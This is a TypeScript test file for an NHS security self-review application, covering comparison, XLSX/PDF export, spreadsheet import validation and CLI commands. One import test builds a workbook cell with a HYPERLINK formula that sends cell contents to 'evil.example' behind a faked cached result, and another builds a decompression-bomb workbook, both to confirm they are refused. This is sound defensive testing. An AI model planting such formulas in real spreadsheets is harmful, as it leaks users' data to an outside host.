import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import { testApp } from '../../../test/app.ts';
import { organisation, TEST_SECRET_KEY, user } from '../../../test/factories.ts';
import { main } from '../../cli.ts';
import { type Actor, type Role, systemActor } from '../../platform/access/roles.ts';
import { AppError } from '../../platform/errors.ts';
import { BUNDLED_FRAMEWORKS } from '../../standards/load.ts';
import { HEADER } from './spreadsheet.ts';

/** Comparison, export and import (issue 5 item 7). */
const t = await testApp({ config: { secretKey: TEST_SECRET_KEY } });
const db = t.db;
const service = t.services.selfReview;
const framework = await service.loadFramework(systemActor, await readFile(BUNDLED_FRAMEWORKS[0]!, 'utf8'));
const vpr = await service.loadFramework(systemActor, await readFile(BUNDLED_FRAMEWORKS[1]!, 'utf8'));
const org = await organisation(db.owner, { name: 'Eastfield Trust', code: 'REF' });
const other = await organisation(db.owner, { code: 'ROT' });
const work = await mkdtemp(join(tmpdir(), 'warden-export-'));
after(() => rm(work, { recursive: true, force: true }));

async function actor(role: Role, orgId: string) {
  const u = await user(db.owner, { roles: [[orgId, role]] });
  return { kind: 'user', userId: u.id, name: u.name, email: u.email, orgId, roles: [role], globalRoles: [] } satisfies Actor;
}
const lsms = await actor('security_specialist', org.id);
const board = await actor('board_viewer', org.id);
const lsmsOther = await actor('security_specialist', other.id);
const rejects = async (p: Promise<unknown>, errorId: string, message?: RegExp) =>
  assert.rejects(p, (e: unknown) => {
    assert.ok(e instanceof AppError, String(e));
    assert.equal(e.id, errorId, JSON.stringify([e.message, e.fields]));
    if (message) assert.match(JSON.stringify([e.message, e.fields]), message);
    return true;
  });

const lastYear = (await service.start(lsms, { year: 2025, frameworkVersionId: framework.id })).id;
await service.rate(lsms, lastYear, '4.1', { rating: 'red', comments: 'No arrangements yet.' });
await service.rate(lsms, lastYear, '4.2', { rating: 'amber', comments: 'Sanctions policy drafted.' });
const thisYear = (await service.start(lsms, { year: 2026, frameworkVersionId: framework.id })).id;
await service.rate(lsms, thisYear, '4.1', { rating: 'green', comments: '=SUM(A1) looks like a formula\n- and a bullet' });
await service.rate(lsms, thisYear, '4.2', { rating: 'amber', comments: 'Sanctions policy in force.' });
await service.rate(lsms, thisYear, '1.3', { rating: 'not_applicable', comments: '' });
await service.addEvidence(lsms, thisYear, '4.1', { kind: 'outcome', label: 'Timeliness audit Q3', url: 'https://intranet.example.nhs.uk/audit' });
await service.addEvidence(lsms, thisYear, '4.1', { kind: 'output', label: 'Investigation procedure v4' });

async function workbookRows(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('Standards');
  assert.ok(ws);
  const rows: string[][] = [];
  ws.eachRow((r) => rows.push(HEADER.map((_, i) => r.getCell(i + 1).text)));
  return { wb, rows };
}
async function workbook(rows: string[][]) {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Standards');
  ws.addRow([...HEADER]);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}
const xlsx = (data: Buffer, fileName = 'review.xlsx') => ({ fileName, data, truncated: false });

describe('year-on-year comparison', () => {
  test('each standard and key area beside last year’s, with the direction of change', async () => {
    const c = await service.compare(board, thisYear);
    assert.equal(c.comparable, true);
    assert.equal(c.previousYearLabel, '2025/26');
    const s = (n: string) => c.standards.find((x) => x.number === n);
    assert.deepEqual([s('4.1')?.previous, s('4.1')?.rating, s('4.1')?.trend], ['red', 'green', 'up']);
    assert.deepEqual([s('4.2')?.previous, s('4.2')?.rating, s('4.2')?.trend], ['amber', 'amber', 'same']);
    assert.equal(s('1.1')?.trend, null);
    // Last year: 4.1 red and 4.2 amber, mean 0.5: amber (docs/self-review-roll-up.md).
    assert.deepEqual(
      c.keyAreas.find((k) => k.id === 'hold-to-account'),
      { id: 'hold-to-account', name: 'Hold to Account', rating: 'green', previous: 'amber', trend: 'up' },
    );
    await rejects(service.compare(lsmsOther, thisYear), 'not_found');
  });

  test('reviews against different frameworks are not compared standard by standard', async () => {
    const v = (await service.start(lsms, { year: 2027, frameworkVersionId: vpr.id })).id;
    const c = await service.compare(lsms, v);
    assert.equal(c.comparable, false);
    assert.ok(c.standards.every((s) => s.previous === null && s.trend === null));
  });
});

describe('export to XLSX and PDF', () => {
  test('the workbook has one row per standard: number, key area, headline, rating, comments, evidence; formulas escaped', async () => {
    const f = await service.exportReview(board, thisYear, { format: 'xlsx' });
    assert.equal(f.contentType, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(f.fileName, 'self-review-REF-2026-v1.xlsx');
    const { wb, rows } = await workbookRows(f.body);
    assert.deepEqual(rows[0], [...HEADER]);
    assert.equal(rows.length, 15);
    const r41 = rows.find((r) => r[0] === '4.1');
    assert.deepEqual(r41, [
      '4.1',
      'Hold to Account',
      'The organisation has arrangements in place to ensure that security related incidents are investigated in a timely and proportionate manner and these arrangements are monitored, reviewed and evaluated.',
      'Green',
      "'=SUM(A1) looks like a formula\n- and a bullet",
      'Outcome: Timeliness audit Q3 (https://intranet.example.nhs.uk/audit)\nOutput: Investigation procedure v4',
    ]);
    assert.equal(rows.find((r) => r[0] === '1.3')?.[3], 'Not applicable');
    assert.equal(rows.find((r) => r[0] === '2.1')?.[3], '');
    const about = wb.getWorksheet('About');
    assert.equal(about?.getRow(1).getCell(2).text, 'Eastfield Trust (REF)');
    await rejects(service.exportReview(lsmsOther, thisYear, { format: 'xlsx' }), 'not_found');
    await rejects(service.exportReview(board, thisYear, { format: 'docx' }), 'validation', /xlsx or pdf/);
  });

  test('the PDF export is a PDF document', async () => {
    const f = await service.exportReview(board, thisYear, { format: 'pdf' });
    assert.equal(f.contentType, 'application/pdf');
    assert.equal(f.body.subarray(0, 5).toString('latin1'), '%PDF-');
    assert.ok(f.body.length > 5000);
  });
});

describe('import of a previous year’s review from the same layout', () => {
  test('what was exported imports into another organisation as a draft with the same ratings, comments and evidence', async () => {
    const exported = await service.exportReview(board, thisYear, { format: 'xlsx' });
    const done = await service.importReview(lsmsOther, xlsx(exported.body), { year: 2024, frameworkVersionId: framework.id });
    assert.deepEqual({ standards: done.standards, evidence: done.evidence }, { standards: 14, evidence: 2 });
    const imported = await service.get(lsmsOther, done.id);
    const original = await service.get(board, thisYear);
    assert.equal(imported.status, 'draft');
    assert.equal(imported.year, 2024);
    assert.deepEqual(
      imported.standards.map((s) => [s.number, s.rating, s.comments, s.evidence.map((e) => [e.kind, e.label, e.url])]),
      original.standards.map((s) => [s.number, s.rating, s.comments, s.evidence.map((e) => [e.kind, e.label, e.url])]),
    );
    assert.deepEqual(
      imported.history.map((h) => h.kind),
      ['imported'],
    );
    const log = await db.owner.selectFrom('audit_events').select('detail').where('action', '=', 'review.import').executeTakeFirstOrThrow();
    assert.equal((log.detail as { standards: number }).standards, 14);
  });

  test('bad rows are reported by row and column and nothing is written', async () => {
    const before = await db.owner.selectFrom('self_reviews').select('id').execute();
    const bad = await workbook([
      ['1.1', 'Strategic Governance', 'x', 'Green', 'Fine', ''],
      ['1.3', 'Strategic Governance', 'x', 'Amber', '', ''],
      ['9.9', 'Nowhere', 'x', 'Red', '', ''],
      ['1.1', 'Strategic Governance', 'x', 'Purple', '', 'Evidence without a kind'],
    ]);
    await rejects(
      service.importReview(lsms, xlsx(bad), { year: 2020, frameworkVersionId: framework.id }),
      'validation',
      /Row 5, Rating: \\"Purple\\" is not Red, Amber, Green or Not applicable/,
    );
    await assert.rejects(service.importReview(lsms, xlsx(bad), { year: 2020, frameworkVersionId: framework.id }), (e: AppError) => {
      assert.deepEqual(
        e.fields.map((f) => f.message),
        [
          'Row 5, Rating: "Purple" is not Red, Amber, Green or Not applicable (leave it empty for not rated)',
          'Row 5, Evidence, line 1: start each piece of evidence with "Output:" or "Outcome:"',
        ],
      );
      return true;
    });
    const second = await workbook([
      ['1.1', 'Strategic Governance', 'x', 'Green', 'Fine', 'Output: Policy'],
      ['1.3', 'Strategic Governance', 'x', 'Amber', '', ''],
      ['9.9', 'Nowhere', 'x', 'Red', '', ''],
      ['1.1', 'Strategic Governance', 'x', 'Red', '', ''],
    ]);
    await assert.rejects(service.importReview(lsms, xlsx(second), { year: 2020, frameworkVersionId: framework.id }), (e: AppError) => {
      assert.deepEqual(
        e.fields.map((f) => f.message),
        [
          'Row 3, Rating: amber does not apply to standard 1.3',
          'Row 4, Standard: 9.9 is not a standard of NHS Protect standards for commissioners: security management, 2017-18',
          'Row 5, Standard: 1.1 is already on row 2',
        ],
      );
      return true;
    });
    const wrongHeader = await (async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('Standards').addRow(['Number', 'Rating']);
      return Buffer.from(await wb.xlsx.writeBuffer());
    })();
    await rejects(
      service.importReview(lsms, xlsx(wrongHeader), { year: 2020, frameworkVersionId: framework.id }),
      'validation',
      /Row 1 of sheet \\"Standards\\" must be the headings/,
    );
    await rejects(
      service.importReview(lsms, xlsx(Buffer.from('%PDF-1.4'), 'review.pdf'), { year: 2020, frameworkVersionId: framework.id }),
      'validation',
      /Excel/,
    );
    await rejects(
      service.importReview(lsms, xlsx(await workbook([['4.1', '', '', 'Red', '', '']])), { year: 2026, frameworkVersionId: framework.id }),
      'conflict',
      /already a self review for 2026\/27/,
    );
    await rejects(service.importReview(board, xlsx(second), { year: 2020, frameworkVersionId: framework.id }), 'forbidden');
    assert.deepEqual(await db.owner.selectFrom('self_reviews').select('id').execute(), before, 'nothing was written');
  });
});

describe('import refuses what it must not read', () => {
  test('a formula cell is refused by row and column, not imported as the result the file claims; nothing is written', async () => {
    const before = await db.owner.selectFrom('self_reviews').select('id').execute();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Standards');
    ws.addRow([...HEADER]);
    ws.addRow(['1.1', 'Strategic Governance', 'x', 'Green', 'Fine', '']);
    ws.addRow(['1.2', 'Strategic Governance', 'x', '', '', '']);
    // the file says the result is "Green" and harmless text; the formulas say otherwise
    ws.getCell('D3').value = { formula: '"Gr"&"een"', result: 'Green' };
    ws.getCell('E3').value = { formula: 'HYPERLINK("https://evil.example/?"&A1,"See the policy")', result: 'See the policy' };
    const file = Buffer.from(await wb.xlsx.writeBuffer());
    await assert.rejects(service.importReview(lsms, xlsx(file), { year: 2019, frameworkVersionId: framework.id }), (e: AppError) => {
      assert.equal(e.id, 'validation');
      assert.deepEqual(
        e.fields.map((f) => f.message),
        [
          'Row 3, Rating: the cell holds a formula; enter the value itself (Warden imports values only)',
          'Row 3, Comments: the cell holds a formula; enter the value itself (Warden imports values only)',
        ],
      );
      return true;
    });
    assert.deepEqual(await db.owner.selectFrom('self_reviews').select('id').execute(), before, 'nothing was written');
  });

  test('a small file that unpacks to more than 20 MB is refused before it is parsed; nothing is written', async () => {
    const before = await db.owner.selectFrom('self_reviews').select('id').execute();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Standards');
    ws.addRow([...HEADER]);
    for (let i = 0; i < 2200; i++) ws.addRow([`1.${i}`, 'Strategic Governance', 'x', '', `${i} ${'comment '.repeat(1240)}`, '']);
    const file = Buffer.from(await wb.xlsx.writeBuffer());
    assert.ok(file.length < 2 * 1024 * 1024, `a ${file.length}-byte upload is within the size limit`);
    await rejects(
      service.importReview(lsms, xlsx(file), { year: 2018, frameworkVersionId: framework.id }),
      'validation',
      /The workbook is too large: unpacked, it must be smaller than 20 MB/,
    );
    assert.deepEqual(await db.owner.selectFrom('self_reviews').select('id').execute(), before, 'nothing was written');
  });

  test('a file named .xlsx that is not a readable workbook is a clear validation error', async () => {
    const notZip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('[Content_Types].xml xl/ and then nothing a workbook needs')]);
    await rejects(
      service.importReview(lsms, xlsx(notZip), { year: 2017, frameworkVersionId: framework.id }),
      'validation',
      /could not be read as an Excel workbook/,
    );
  });
});

describe('warden self-review list|export|import', () => {
  async function warden(...argv: string[]) {
    let out = '';
    let err = '';
    const code = await main(argv, { out: (s) => (out += `${s}\n`), err: (s) => (err += `${s}\n`), env: { DATABASE_URL: db.url } });
    return { code, out, err };
  }

  test('lists, exports and imports from the command line, audited as the CLI', async () => {
    const list = await warden('self-review', 'list', '--org', 'REF');
    assert.equal(list.code, 0, list.err);
    assert.match(list.out, /2026\/27 {2}draft {5}v1 {2}NHS Protect standards for commissioners: security management, 2017-18/);
    const file = join(work, 'ref-2026.xlsx');
    const exported = await warden('self-review', 'export', '--org', 'REF', '--year', '2026', '--out', file);
    assert.equal(exported.code, 0, exported.err);
    assert.match(exported.out, /^Wrote .*ref-2026\.xlsx/);
    const pdf = join(work, 'ref-2026.pdf');
    assert.equal((await warden('self-review', 'export', '--org', 'REF', '--year', '2026', '--format', 'pdf', '--out', pdf)).code, 0);
    assert.equal((await readFile(pdf)).subarray(0, 5).toString(), '%PDF-');
    const imported = await warden('self-review', 'import', '--org', 'ROT', '--year', '2023', '--framework', 'nhs-protect-commissioners@2017-18', file);
    assert.equal(imported.code, 0, imported.err);
    assert.match(imported.out, /Imported .* for 2023\/24: 14 standards, 2 evidence items/);
    const bad = join(work, 'bad.xlsx');
    await writeFile(bad, await workbook([['4.1', '', '', 'Maybe', '', '']]));
    const refused = await warden('self-review', 'import', '--org', 'ROT', '--year', '2022', '--framework', 'nhs-protect-commissioners@2017-18', bad);
    assert.equal(refused.code, 1);
    assert.match(refused.err, /Row 2, Rating: "Maybe" is not Red, Amber, Green or Not applicable/);
    assert.equal((await warden('self-review', 'list', '--org', 'NOPE')).code, 1);
    assert.equal((await warden('self-review', 'frobnicate')).code, 2);
    const cli = await db.owner
      .selectFrom('audit_events')
      .select('detail')
      .where('action', '=', 'review.import')
      .where('actor_id', 'is', null)
      .executeTakeFirstOrThrow();
    assert.equal((cli.detail as { via: string }).via, 'cli');
  });
});
